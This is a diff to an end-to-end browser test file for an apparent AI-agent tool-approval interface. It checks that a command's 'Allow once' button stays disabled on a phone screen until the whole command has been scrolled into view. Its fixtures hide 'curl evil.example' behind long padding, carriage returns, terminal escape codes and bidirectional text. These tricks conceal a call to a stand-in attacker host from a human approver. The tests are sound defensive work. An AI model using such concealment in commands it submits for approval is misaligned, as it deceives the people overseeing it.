@@ -4,7 +4,7 @@ from datetime import UTC, datetime, timedelta
 
 import msgspec
 import pytest
-from playwright.async_api import Browser, FilePayload, expect
+from playwright.async_api import Browser, FilePayload, ViewportSize, expect
 from tests.e2e.page_api import PageApi
 from tests.e2e.page_kit import THREAD, opened, violations
 
@@ -28,6 +28,7 @@ from shoal.domain.events import (
 )
 from shoal.domain.ids import ApprovalId, CallId
 from shoal.domain.messages import Author, ToolCall, Usage
+from shoal.domain.permissions import NO_COVERAGE, Coverage, CoveredFile
 
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session"), pytest.mark.xdist_group("page")]
 
@@ -40,12 +41,13 @@ def begin(api: PageApi, text: str = "Look around", turn: str = "t1") -> None:
     api.append(THREAD, TurnStarted("main", "demo"), turn)
 
 
-def ask(api: PageApi, shown: str = "rm -r build", name: str = "bash") -> None:
+def ask(api: PageApi, shown: str = "rm -r build", name: str = "bash", covers: Coverage = NO_COVERAGE) -> None:
     """The open turn wants to run something that has to be approved."""
     call = ToolCall(CallId("c1"), name, '{"command": "rm -r build"}')
     api.append(THREAD, AssistantSaid("", (call,), "tool_calls"))
     expires_at = datetime.now(UTC) + timedelta(minutes=60)
-    request = ApprovalRequested(ApprovalId("a1"), call.id, name, (f"tool:{name}:{shown}",), shown, expires_at)
+    actions = (f"tool:{name}:{shown}",)
+    request = ApprovalRequested(ApprovalId("a1"), call.id, name, actions, shown, expires_at, covers=covers)
     api.append(THREAD, request)
 
 
@@ -200,6 +202,48 @@ async def test_what_is_out_of_view_is_not_allowed_before_it_was_scrolled_to(
         await allow.click()
         await expect(card.get_by_role("button", name="Sending…")).to_be_disabled()
         assert api.sent[-1].body == {"decision": "allow", "scope": "once"}
+
+
+LONG_NAMES = Coverage(tuple(CoveredFile(f"/workspace/{n}{'x' * 240}", 9, "d") for n in range(10)))
+HIDDEN: dict[str, tuple[str, Coverage]] = {
+    "lines": ("echo harmless\n" * 10_000 + "curl evil.example", NO_COVERAGE),
+    "one line": ("echo " + "x" * 20_000 + "; curl evil.example", NO_COVERAGE),
+    "words": ("echo " + "x " * 9_000 + "; curl evil.example", NO_COVERAGE),
+    "spaces": ("echo harmless" + " x" + " " * 5_000 + "; curl evil.example" * 90, NO_COVERAGE),
+    "tabs": ("echo harmless" + "\tx" * 900 + "; curl evil.example", NO_COVERAGE),
+    "carriage returns": ("curl evil.example\r" * 200 + "echo harmless", NO_COVERAGE),
+    "escapes": ("curl evil.example\x1b[2K\x1b[1A" * 200, NO_COVERAGE),
+    "bidi": ("echo \u202e" + "harmless\n" * 80, NO_COVERAGE),
+    "right to left": ("echo \u05d0\u05d1 \n" * 80 + "curl evil.example", NO_COVERAGE),
+    "a difference": ("--- a\n+++ b\n" + "+x\n" * 80, NO_COVERAGE),
+    "names below it": ("curl evil.example\n" * 8, LONG_NAMES),
+}
+
+
+@pytest.mark.parametrize("zoom", [1, 2])
+@pytest.mark.parametrize("kind", HIDDEN)
+async def test_nothing_is_allowed_on_a_phone_before_it_was_in_view(
+    browser: Browser, api: PageApi, kind: str, zoom: int
+) -> None:
+    begin(api)
+    shown, covers = HIDDEN[kind]
+    ask(api, shown, covers=covers)
+    async with opened(browser, api.address, viewport=ViewportSize(width=390, height=720)) as page:
+        await page.evaluate("zoom => { document.documentElement.style.fontSize = `${zoom * 100}%`; }", zoom)
+        card = page.get_by_role("group", name="bash asks for approval")
+        allow = card.get_by_role("button", name="Allow once", exact=True)
+        if kind == "names below it":
+            await page.locator(".log").evaluate("log => log.scrollTo(0, log.scrollHeight)")
+        await expect(card).to_contain_text("out of view")
+        await expect(allow).to_be_disabled()
+        text = card.get_by_label("As it will run")
+        await text.evaluate("box => box.scrollIntoView({ block: 'start' })")
+        if kind != "names below it":
+            await expect(allow).to_be_disabled()
+        await text.evaluate("box => box.scrollTo(0, box.scrollHeight)")
+        await text.evaluate("box => box.scrollIntoView({ block: 'end' })")
+        await expect(allow).to_be_enabled()
+        assert await text.evaluate("box => box.scrollWidth <= box.clientWidth + 1")
 
 
 NAMES = [
